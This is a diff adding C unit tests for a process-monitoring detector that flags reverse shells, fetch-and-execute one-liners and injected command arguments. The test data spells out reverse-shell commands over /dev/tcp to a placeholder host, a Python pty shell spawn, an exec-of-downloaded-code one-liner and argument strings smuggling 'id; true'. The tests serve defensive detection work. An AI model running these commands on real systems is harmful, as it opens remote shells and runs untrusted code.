@@ -171,7 +171,13 @@ static void a_shell_that_connects_by_itself(void **s)
 	check_hit("R4.5");
 	connected("bash -i >& /dev/tcp/h/1 0>&1");
 	check_hit("R4.5");
+	connected("exec 0<>/dev/tcp/h/1; sh");
+	check_hit("R4.5");
+	connected("exec 5<>/dev/tcp/h/1; read -u 5 l; eval $l");
+	check_hit("R4.5");
 	connected("echo > /dev/tcp/h/1"); /* is it up? */
+	check_miss("R4.5");
+	connected("(exec 3<>/dev/tcp/h/1) && echo up");
 	check_miss("R4.5");
 }
 
@@ -220,6 +226,86 @@ static void an_interpreter_starts_a_shell(void **s)
 	check_hit("R4.6");
 }
 
+static void one_liner_is(char *arguments, size_t len, unsigned argc)
+{
+	parent.args = arguments;
+	parent.args_len = len;
+	parent.argc = argc;
+	parent.roles = ROLE_INTERPRETER;
+	parent.script = NULL;
+}
+
+static void a_connected_one_liner_gives_a_shell_its_input(void **s)
+{
+	static char one_liner[] = "python3\0-c\0import pty; pty.spawn('/bin/sh')";
+	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh"));
+
+	(void)s;
+	one_liner_is(one_liner, sizeof(one_liner), 3);
+	parent.inet = true;
+	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_TTY, .ino = 4, .dev = 2 };
+	parent.fd[0] = (struct ev_fd){ .kind = FD_NULL, .ino = 4, .dev = 1 };
+	exec_look(&detect_piped_shell, p);
+	check_hit("R4.5");
+	parent.fd[0] = p->fd[0]; /* the terminal that it had itself */
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	parent.fd[0].ino = 5;
+	parent.inet = false;
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	parent.inet = true;
+	parent.args = NULL; /* a program with a file: what it does there is its own */
+	parent.args_len = parent.argc = 0;
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	parent.inet = false;
+	parent.fd[0] = (struct ev_fd){ 0 };
+	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
+	parent.script = (char *)"test_server.py";
+}
+
+static void a_one_liner_runs_what_it_fetches(void **s)
+{
+	exec_look(&detect_piped_shell,
+		  process_new("python3", ROLE_INTERPRETER,
+			      ARGV("python3", "-c", "exec(urlopen('http://h/i').read())")));
+	(void)s;
+	check_hit("R4.4");
+	exec_look(&detect_piped_shell,
+		  process_new("python3", ROLE_INTERPRETER,
+			      ARGV("python3", "-c", "print(urlopen('http://h/i').read())")));
+	check_miss("R4.4");
+}
+
+static void the_string_stood_in_the_starters_arguments(void **s)
+{
+	static char option[] = "tool\0--filter=id; true", whole[] = "tool\0id; true",
+		    data[] = "xargs\0-I%\0sh\0-c\0%", own[] = "xargs\0-n1\0sh\0-c\0echo \"$1\"";
+	(void)s;
+	one_liner_is(option, sizeof(option), 2);
+	started_by("tool", NULL, "id; true");
+	check_hit("R4.6");
+	parent.roles = ROLE_INTERPRETER;
+	started_by("tool", NULL, "id; false");
+	check_miss("R4.6");
+	one_liner_is(whole, sizeof(whole), 2); /* to run a command is what it is there for */
+	started_by("tool", NULL, "id; true");
+	check_miss("R4.6");
+	one_liner_is(option, sizeof(option), 2);
+	started_by("timeout", NULL, "id; true");
+	check_miss("R4.6");
+	one_liner_is(data, sizeof(data), 5);
+	started_by("xargs", NULL, "id");
+	check_hit("R4.6");
+	one_liner_is(own, sizeof(own), 5);
+	started_by("xargs", NULL, "echo \"$1\"");
+	check_miss("R4.6");
+	parent.args = NULL;
+	parent.args_len = parent.argc = 0;
+	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
+}
+
 static void built(const char *dockerfile)
 {
 	docker_look(&detect_piped_shell, "/build", NULL, NULL, dockerfile);
@@ -263,6 +349,9 @@ int main(void)
 		cmocka_unit_test(a_shell_feeds_on_a_network_socket),
 		cmocka_unit_test(a_shell_that_connects_by_itself),
 		cmocka_unit_test(an_interpreter_starts_a_shell),
+		cmocka_unit_test(a_connected_one_liner_gives_a_shell_its_input),
+		cmocka_unit_test(a_one_liner_runs_what_it_fetches),
+		cmocka_unit_test(the_string_stood_in_the_starters_arguments),
 		cmocka_unit_test(an_image_or_container_runs_a_download),
 		cmocka_unit_test(a_string_of_the_host_tells_what_execs_do_not),
 	};
